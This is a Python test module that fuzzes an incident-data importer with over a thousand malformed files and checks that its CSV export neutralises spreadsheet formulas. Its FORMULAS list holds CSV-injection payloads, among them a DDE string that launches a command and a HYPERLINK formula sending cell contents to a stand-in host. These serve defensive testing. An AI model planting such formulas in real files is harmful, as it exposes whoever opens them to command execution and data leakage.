"""Hostile files: over a thousand malformed incident files, generated from fixed seeds, go
through the importer, and each ends as a clean refusal or as a batch whose accounting is exact.

- A refusal is InvalidInput, its message a sentence for a person, and its batch failed with that
  message, nothing of it stored.
- A success is a batch where rows read = imported + duplicates + rejected, with as many facts
  and rejected rows of the batch in the database as it says.
- Any other exception is a bug. A sample goes through the command line too: exit code 0 or 1,
  never a traceback.

The files come in families (truncated, wrong encodings, binary garbage, NUL bytes, huge fields,
many columns, formula cells, unbalanced quotes, empty, other formats with garbage inside,
random mutations), each run as one test on one database; the facts pile up from family to
family (the accounting is checked per batch), and the module empties the database at the end.

Last, formulas in the cells of a file (reference, category, address), in the batch's source name
and in a commune's name never leave the CSV export as formulas.
"""

from __future__ import annotations

import csv
import io
import json
import random
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, text

from ingest.boundaries import import_communes
from ingest.incidents import import_incidents
from ingest.incidents.mapping import Mapping
from observatory.db import make_sessionmaker
from observatory.errors import InvalidInput
from observatory.imports import BatchSummary
from observatory.settings import PROJECT_ROOT, Settings
from tests.conftest import TEST_SECRET, _truncate_all, auth, run_cli

# GDAL says so of every garbage GeoPackage it is handed; the refusal is what is checked.
pytestmark = pytest.mark.filterwarnings("ignore:GPKG. bad application_id:RuntimeWarning")

SAMPLES = PROJECT_ROOT / "data" / "samples"
# 40 facts of the Toulouse sample (UTF-8, ";", WGS84) and the messy export (cp1252, CRLF,
# Lambert-93): the valid files that most hostile ones start from.
TOULOUSE = b"\n".join((SAMPLES / "incidents_toulouse.csv").read_bytes().split(b"\n")[:41]) + b"\n"
MESSY = (SAMPLES / "municipal_messy.csv").read_bytes()
TOULOUSE_TEXT = TOULOUSE.decode("utf-8")
MESSY_TEXT = MESSY.decode("cp1252")
HEADER = TOULOUSE_TEXT.split("\n", 1)[0].split(";")
ROWS = [line.split(";") for line in TOULOUSE_TEXT.splitlines()[1:]]
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")',
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
MEGABYTE = 1 << 20
# A message for a person: no traceback, no Python exception name.
TECHNICAL = re.compile(r"Traceback|\b\w+(Error|Exception)\b|\bat 0x[0-9a-f]+")
# How observatory.imports words a value that PostgreSQL refused, the batch's last safety net.
DATABASE_REFUSAL = "La base a refusé une valeur du fichier"


@dataclass
class Hostile:
    """One malformed file: its name (the extension picks the reader), bytes, mapping options."""

    name: str
    content: bytes
    mapping: dict[str, Any] = field(default_factory=dict)


def csv_bytes(header: list[str], rows: list[list[str]], sep: str = ";") -> bytes:
    buffer = io.StringIO()
    # CRLF line ends: the writer then quotes a cell holding a CR, which stays in its cell.
    writer = csv.writer(buffer, delimiter=sep, lineterminator="\r\n")
    writer.writerows([header, *rows])
    return buffer.getvalue().encode("utf-8")


def workbook(header: list[str], rows: list[list[str]]) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in [header, *rows]:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# -- the families --------------------------------------------------------------------------------


def truncated() -> Iterator[Hostile]:
    """Valid files cut at any byte: mid-line, mid-field, mid-character."""
    rng = random.Random(1)
    for i in range(120):
        base = TOULOUSE if i % 2 else MESSY
        yield Hostile(f"tronque_{i}.csv", base[: rng.randrange(len(base))])


def wrong_encodings() -> Iterator[Hostile]:
    """UTF-16/32, EBCDIC, mislabelled Latin-1 and UTF-8, mixed encodings, stray BOMs."""
    rng = random.Random(2)
    codecs = ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp500", "mac_roman", "shift_jis")
    for i in range(100):
        text_ = TOULOUSE_TEXT if i % 2 else MESSY_TEXT
        lines = text_.splitlines()
        kind = i % 8
        if kind < 3:  # a wide or foreign encoding, sniffed as whatever it looks like
            codec = codecs[rng.randrange(len(codecs))]
            yield Hostile(f"encodage_{i}.csv", text_.encode(codec, errors="replace"))
        elif kind == 3:  # Latin-1 declared UTF-8
            data = text_.replace("e", "é").encode("latin-1", errors="replace")
            yield Hostile(f"latin1_{i}.csv", data, {"encoding": "utf-8"})
        elif kind == 4:  # UTF-16 declared UTF-8, and UTF-8 declared UTF-16
            if i % 16 < 8:
                yield Hostile(f"utf16_{i}.csv", text_.encode("utf-16"), {"encoding": "utf-8"})
            else:
                yield Hostile(f"utf8_{i}.csv", text_.encode("utf-8"), {"encoding": "utf-16"})
        elif kind == 5:  # each line in an encoding of its own
            chosen = [rng.choice(("utf-8", "cp1252", "utf-16-le", "latin-1")) for _ in lines]
            data = b"\n".join(
                line.encode(c, errors="replace") for line, c in zip(lines, chosen, strict=True)
            )
            yield Hostile(f"melange_{i}.csv", data)
        elif kind == 6:  # byte-order marks in odd places
            bom = rng.choice(("\ufeff", "\ufeff\ufeff", "\ufffe"))
            at = rng.randrange(len(lines))
            lines[at] = bom + lines[at]
            yield Hostile(f"bom_{i}.csv", "\n".join(lines).encode("utf-8", errors="replace"))
        else:  # a UTF-8 BOM before Windows-1252 text
            data = b"\xef\xbb\xbf" + text_.encode("cp1252", errors="replace")
            yield Hostile(f"bom_cp1252_{i}.csv", data)


def garbage() -> Iterator[Hostile]:
    """Random bytes, some sprinkled with separators, quotes and line ends."""
    rng = random.Random(3)
    for i in range(250):
        size = rng.choice((1, 2, 7, 100, 1000, 5000, 30_000))
        data = bytearray(rng.randbytes(size))
        if i % 3 == 0:
            for _ in range(size // 10):
                data[rng.randrange(size)] = rng.choice(b';,\t|"\n\r')
        suffix = rng.choice((".csv", ".csv", ".txt", ".tsv"))
        yield Hostile(f"dechets_{i}{suffix}", bytes(data))


def nul_bytes() -> Iterator[Hostile]:
    """NUL bytes in the data, the header, as a separator, alone."""
    rng = random.Random(4)
    for i in range(50):
        base = bytearray(TOULOUSE if i % 2 else MESSY)
        for _ in range(rng.choice((1, 3, 50))):
            base.insert(rng.randrange(len(base)), 0)
        yield Hostile(f"nul_{i}.csv", bytes(base))
    yield Hostile("nul_seuls.csv", b"\0" * 4096)
    yield Hostile("nul_separateur.csv", TOULOUSE.replace(b";", b"\0"))
    yield Hostile("nul_en_tete.csv", b"\0" + TOULOUSE)
    yield Hostile("nul_fin_de_ligne.csv", TOULOUSE.replace(b"\n", b"\0\n"))


def huge_fields() -> Iterator[Hostile]:
    """Cells of a megabyte or more: in each column, in the header, a line without an end."""
    big = "A" * (MEGABYTE + 1)
    for column in ("numero", "nature", "adresse", "date_faits", "longitude", "code_insee"):
        rows = [list(r) for r in ROWS[:3]]
        rows[1][HEADER.index(column)] = big
        yield Hostile(f"enorme_{column}.csv", csv_bytes(HEADER, rows))
    yield Hostile("enorme_en_tete.csv", csv_bytes([*HEADER[:-1], big], ROWS[:3]))
    yield Hostile("enorme_ligne.csv", TOULOUSE + b"x" * (2 * MEGABYTE))
    yield Hostile("enorme_guillemets.csv", TOULOUSE + b'1;"' + b"y" * MEGABYTE + b'"\n')


def many_columns() -> Iterator[Hostile]:
    """Tens of thousands of columns, in the header or only in the rows."""
    # Sizes held to what runs in seconds: the cost is linear, ~0.3 ms a column.
    wide = [f"c{i}" for i in range(3_000)]
    surplus = [f"v{i}" for i in range(20_000)]
    yield Hostile("colonnes_en_tete.csv", csv_bytes(HEADER + wide, ROWS[:5]))
    yield Hostile("colonnes_lignes.csv", csv_bytes(HEADER, [r + surplus for r in ROWS[:5]]))
    yield Hostile("colonnes_partout.csv", csv_bytes(HEADER + wide, [r + wide for r in ROWS[:5]]))
    yield Hostile("colonnes_vides.csv", b";" * 20_000 + b"\n" + TOULOUSE.split(b"\n", 1)[1])
    # One name 30,000 times: numbering the duplicates was cubic (hours), now linear.
    yield Hostile("colonnes_virgules.csv", b",".join([b"x"] * 30_000) + b"\n1,2\n")


def formula_cells() -> Iterator[Hostile]:
    """Every formula of the OWASP list in every column, whole columns of them."""
    for column in range(len(HEADER)):
        for k, formula in enumerate(FORMULAS):
            rows = [list(r) for r in ROWS[:6]]
            for n, row in enumerate(rows):
                row[column] = formula if column else f"{formula}{n}"  # references stay unique
            yield Hostile(f"formule_{HEADER[column]}_{k}.csv", csv_bytes(HEADER, rows))
    everywhere = [[f"{f}{n}" for f in FORMULAS * 2][: len(HEADER)] for n in range(6)]
    yield Hostile("formules_partout.csv", csv_bytes(HEADER, everywhere))


def unbalanced_quotes() -> Iterator[Hostile]:
    """Quotes opened and never closed, closed and never opened, doubled, in any field."""
    rng = random.Random(5)
    for i in range(80):
        data = bytearray(TOULOUSE if i % 2 else MESSY)
        for _ in range(rng.choice((1, 1, 2, 5))):
            data.insert(rng.randrange(len(data)), ord('"'))
        yield Hostile(f"guillemets_{i}.csv", bytes(data))


def empty_ones() -> Iterator[Hostile]:
    """Nothing, or nothing but a header, blank lines, separators, a BOM."""
    header = TOULOUSE.split(b"\n", 1)[0]
    for i, data in enumerate(
        (
            b"",
            b"\n",
            b"\r\n\r\n\r\n",
            b"   \t  \n",
            b"\xef\xbb\xbf",
            b"\xff\xfe",
            header,
            header + b"\n",
            header + b"\n\n\n",
            header + b"\n;;;;;;;;;\n;;;;;;;;;\n",
            b";;;;\n;;;;\n",
            b'""\n',
            b"numero\n",
            b"numero;numero;numero\n1;2;3\n",
            MESSY.split(b"\r\n", 1)[0] + b"\r\n",
        )
    ):
        yield Hostile(f"vide_{i}.csv", data)


def other_formats() -> Iterator[Hostile]:
    """XLSX, GeoJSON, GeoPackage, Shapefile names over garbage, and near misses of each."""
    rng = random.Random(6)
    for i in range(25):
        yield Hostile(f"classeur_{i}.xlsx", rng.randbytes(rng.choice((0, 10, 2000, 20_000))))
    for i in range(8):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as book:
            book.writestr("[Content_Types].xml", rng.randbytes(200) if i % 2 else b"<Types/>")
            book.writestr("xl/workbook.xml", "<workbook>" * (i + 1))
            book.writestr("xl/worksheets/sheet1.xml", rng.randbytes(500))
        yield Hostile(f"zip_{i}.xlsx", buffer.getvalue())
    yield Hostile("csv_deguise.xlsx", TOULOUSE)
    # A real workbook of the 40 facts, then each of its parts replaced by garbage or cut short.
    good = workbook(HEADER, ROWS)
    yield Hostile("classeur_valide.xlsx", good)
    with zipfile.ZipFile(io.BytesIO(good)) as book:
        parts = {name: book.read(name) for name in book.namelist()}
    for i, name in enumerate(sorted(parts)):
        for j, spoil in enumerate((lambda b: b[: len(b) // 2], lambda b: rng.randbytes(len(b)))):
            spoiled = io.BytesIO()
            with zipfile.ZipFile(spoiled, "w") as book:
                for other, data in parts.items():
                    book.writestr(other, spoil(data) if other == name else data)
            yield Hostile(f"classeur_abime_{i}_{j}.xlsx", spoiled.getvalue())
    yield Hostile("vieux.xls", rng.randbytes(512))
    yield Hostile("tableur.ods", rng.randbytes(512))
    feature = {
        "type": "Feature",
        "geometry": {"type": "Point", "coordinates": [1.44, 43.6]},
        "properties": {"numero": "G-1", "date_faits": "01/02/2024", "nature": "Tapage"},
    }
    odd_json: list[Any] = [
        [],
        {},
        "texte",
        42,
        None,
        {"type": "FeatureCollection"},
        {"type": "FeatureCollection", "features": None},
        {"type": "FeatureCollection", "features": [None, 1, "x"]},
        {"type": "FeatureCollection", "features": [feature] * 3},  # the same reference thrice
        {"type": "Feature", "geometry": None, "properties": None},
        {
            "type": "FeatureCollection",
            "features": [
                {**feature, "geometry": {"type": "Point", "coordinates": ["=1+1", 2]}},
                {**feature, "geometry": {"type": "Point", "coordinates": [1e308, -1e308]}},
                {**feature, "geometry": {"type": "LineString", "coordinates": [[0, 0], [1, 1]]}},
                {**feature, "properties": {"nature": {"imbrique": [1, 2]}, "numero": None}},
            ],
        },
    ]
    for i, value in enumerate(odd_json):
        yield Hostile(f"json_{i}.geojson", json.dumps(value).encode())
    whole = json.dumps({"type": "FeatureCollection", "features": [feature] * 20}).encode()
    for i in range(10):
        yield Hostile(f"geojson_tronque_{i}.geojson", whole[: rng.randrange(len(whole))])
    for i in range(20):
        suffix = (".geojson", ".json", ".gpkg", ".shp")[i % 4]
        yield Hostile(f"geo_dechets_{i}{suffix}", rng.randbytes(rng.choice((0, 50, 5000))))
    for i in range(8):  # an SQLite header, then garbage
        yield Hostile(f"sqlite_{i}.gpkg", b"SQLite format 3\0" + rng.randbytes(4096 * (i + 1)))


def mutations() -> Iterator[Hostile]:
    """Valid files with bytes flipped, lines duplicated or dropped, separators swapped."""
    rng = random.Random(7)
    for i in range(200):
        lines = (TOULOUSE if i % 2 else MESSY).splitlines(keepends=True)
        for _ in range(rng.randint(1, 8)):
            at = rng.randrange(1, len(lines))
            line = bytearray(lines[at])
            kind = rng.randrange(6)
            if kind == 0 and line:
                line[rng.randrange(len(line))] = rng.randrange(256)
            elif kind == 1:
                lines.insert(at, bytes(line))
            elif kind == 2:
                del lines[at]
                continue
            elif kind == 3:
                line = bytearray(line.replace(b";", rng.choice((b",", b"|", b"\t", b";;")), 1))
            elif kind == 4:
                line[rng.randrange(len(line) + 1) : 0] = rng.choice((b"\n", b"\r", b";", b'"'))
            else:
                line = bytearray(line[: rng.randrange(len(line) + 1)])
            lines[at] = bytes(line)
        yield Hostile(f"mutation_{i}.csv", b"".join(lines))


FAMILIES: dict[str, Callable[[], Iterator[Hostile]]] = {
    "truncated": truncated,
    "wrong_encodings": wrong_encodings,
    "garbage": garbage,
    "nul_bytes": nul_bytes,
    "huge_fields": huge_fields,
    "many_columns": many_columns,
    "formula_cells": formula_cells,
    "unbalanced_quotes": unbalanced_quotes,
    "empty_ones": empty_ones,
    "other_formats": other_formats,
    "mutations": mutations,
}


# -- the checks ----------------------------------------------------------------------------------


@dataclass
class Outcome:
    refused: int = 0
    succeeded: int = 0
    failures: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def config(engine: Engine, database_url: str) -> Iterator[Settings]:
    _truncate_all(engine)
    yield Settings(
        environment="test", database_url=database_url, secret_key=TEST_SECRET, warm_start=False
    )
    _truncate_all(engine)


def last_batch(engine: Engine) -> int:
    with engine.connect() as conn:
        return int(conn.execute(text("SELECT coalesce(max(id), 0) FROM import_batch")).scalar_one())


def stored(engine: Engine, batch_id: int) -> tuple[int, int, list[str]]:
    """The batch's facts and rejected rows in the database, and the rejects' distinct reasons."""
    with engine.connect() as conn:
        facts = conn.execute(
            text("SELECT count(*) FROM incident WHERE batch_id = :id"), {"id": batch_id}
        ).scalar_one()
        reasons = conn.execute(
            text("SELECT reason FROM import_reject WHERE batch_id = :id"), {"id": batch_id}
        ).scalars()
        listed = list(reasons)
    return facts, len(listed), sorted(set(listed))


def check_refusal(engine: Engine, before: int, refusal: InvalidInput) -> list[str]:
    message = str(refusal)
    problems = []
    if not message.strip() or TECHNICAL.search(message):
        problems.append(f"message technique : {message[:300]!r}")
    if message.startswith(DATABASE_REFUSAL):  # the importer let through what it should check
        problems.append(f"refus de la base : {message[:300]!r}")
    with engine.connect() as conn:
        batches = conn.execute(
            text("SELECT id, status, message FROM import_batch WHERE id > :before"),
            {"before": before},
        ).all()
    for batch_id, status, batch_message in batches:
        if status != "failed" or batch_message != message:
            problems.append(f"lot {batch_id} : {status}, {batch_message!r}")
        facts, rejects, _ = stored(engine, batch_id)
        if facts or rejects:
            problems.append(f"lot {batch_id} refusé mais {facts} faits, {rejects} rejets gardés")
    return problems


def check_success(engine: Engine, summary: BatchSummary) -> list[str]:
    problems = []
    counted = summary.rows_imported + summary.rows_duplicate + summary.rows_rejected
    if summary.status != "succeeded" or summary.rows_read != counted:
        problems.append(f"comptes faux : {summary}")
    facts, rejects, reasons = stored(engine, summary.batch_id)
    if (facts, rejects) != (summary.rows_imported, summary.rows_rejected):
        problems.append(f"base : {facts} faits, {rejects} rejets pour {summary}")
    problems += [f"raison technique : {r[:300]!r}" for r in reasons if TECHNICAL.search(r)]
    return problems


def run_one(engine: Engine, settings: Settings, path: Path, hostile: Hostile, out: Outcome) -> None:
    path.write_bytes(hostile.content)
    mapping = Mapping(**hostile.mapping, source="hostile")
    before = last_batch(engine)
    try:
        summary = import_incidents(engine, path, settings=settings, mapping=mapping)
    except InvalidInput as refusal:
        out.refused += 1
        problems = check_refusal(engine, before, refusal)
    except Exception as exc:  # any other exception is what this test looks for
        problems = [f"exception {type(exc).__name__}: {str(exc)[:300]}"]
    else:
        out.succeeded += 1
        problems = check_success(engine, summary)
    out.failures += [f"{hostile.name}: {p}" for p in problems]


@pytest.mark.parametrize("family", sorted(FAMILIES))
def test_hostile_files_are_refused_or_accounted_for(
    engine: Engine, config: Settings, tmp_path: Path, family: str
) -> None:
    out = Outcome()
    for hostile in FAMILIES[family]():
        run_one(engine, config, tmp_path / hostile.name, hostile, out)
    assert not out.failures, "\n".join(out.failures)
    assert out.refused + out.succeeded > 0


def test_at_least_a_thousand_files() -> None:
    names = [h.name for family in FAMILIES.values() for h in family()]
    assert len(names) >= 1000
    assert len(set(names)) == len(names)  # and as many distinct cases


# -- the command line ----------------------------------------------------------------------------

# One file of each family, by the command a scheduled job runs.
CLI_SAMPLE = (
    "tronque_3.csv",
    "dechets_0.csv",
    "nul_seuls.csv",
    "enorme_numero.csv",
    "formule_numero_0.csv",
    "guillemets_1.csv",
    "classeur_abime_8_1.xlsx",
    "sqlite_0.gpkg",
)


def test_the_command_line_never_shows_a_traceback(
    engine: Engine, config: Settings, database_url: str, tmp_path: Path
) -> None:
    wanted = set(CLI_SAMPLE)
    chosen = [h for family in FAMILIES.values() for h in family() if h.name in wanted]
    assert len(chosen) == len(CLI_SAMPLE) and not any(h.mapping for h in chosen)
    outcomes = set()
    for hostile in chosen:
        path = tmp_path / hostile.name
        path.write_bytes(hostile.content)
        done = run_cli(["import", "incidents", str(path), "--json"], DATABASE_URL=database_url)
        assert done.returncode in (0, 1), (hostile.name, done.returncode, done.stderr)
        assert "Traceback" not in done.stderr, (hostile.name, done.stderr)
        outcomes.add(done.returncode)
        if done.returncode == 1:
            assert done.stderr.strip() and not TECHNICAL.search(done.stderr), done.stderr
            continue
        result = json.loads(done.stdout)
        assert result["status"] == "succeeded"
        assert result["rows_read"] == (
            result["rows_imported"] + result["rows_duplicate"] + result["rows_rejected"]
        )
        facts, rejects, _ = stored(engine, result["batch_id"])
        assert (facts, rejects) == (result["rows_imported"], result["rows_rejected"])
    assert outcomes == {0, 1}  # the sample holds refusals and imports


# -- formulas in the export ----------------------------------------------------------------------


def test_formulas_from_a_file_leave_the_csv_export_neutralised(
    engine: Engine, config: Settings, tmp_path: Path
) -> None:
    _truncate_all(engine)
    communes = (SAMPLES / "communes_toulouse.geojson").read_text(encoding="utf-8")
    hostile_name = '=HYPERLINK("http://exemple.invalid";"Toulouse")'
    assert '"nom_commune": "Toulouse"' in communes
    (tmp_path / "communes.geojson").write_text(
        communes.replace('"nom_commune": "Toulouse"', f'"nom_commune": {json.dumps(hostile_name)}'),
        encoding="utf-8",
    )
    import_communes(engine, tmp_path / "communes.geojson")
    rows = []
    for n, formula in enumerate(FORMULAS):
        row = list(ROWS[n])
        row[HEADER.index("numero")] = f"{formula}{n}"
        row[HEADER.index("nature")] = formula
        row[HEADER.index("adresse")] = formula
        rows.append(row)
    path = tmp_path / "formules.csv"
    path.write_bytes(csv_bytes(HEADER, rows))
    # The formulas of the category column are mapped (strip: the reader trims the cells).
    mapping = Mapping(categories={f.strip(): "tapage" for f in FORMULAS}, source="@SUM(1+1)")
    summary = import_incidents(engine, path, settings=config, mapping=mapping)
    assert summary.rows_imported == len(FORMULAS), summary

    from api.main import create_app
    from observatory.tokens import create_token

    with make_sessionmaker(engine).begin() as session:
        token = create_token(session, "export-formules", "admin", config.secret_key)
    with TestClient(create_app(config), raise_server_exceptions=False) as client:
        response = client.get("/api/v1/exports/incidents.csv", headers=auth(token))
    assert response.status_code == 200, response.text
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    header, body = table[0], table[1:]
    assert len(body) == len(FORMULAS)
    for row in body:
        for cell in row:
            number = re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell)
            assert number or not cell.startswith(FORMULA_STARTS), (header, row)
    exported = {name: {row[header.index(name)] for row in body} for name in header}
    # Neutralised, not lost: a quote before the very text that was imported.
    assert exported["source_ref"] == {f"'{f.strip()}{n}" for n, f in enumerate(FORMULAS)}
    assert exported["source"] == {"'@SUM(1+1)"}
    assert exported["commune_name"] == {"'" + hostile_name}
    _truncate_all(engine)
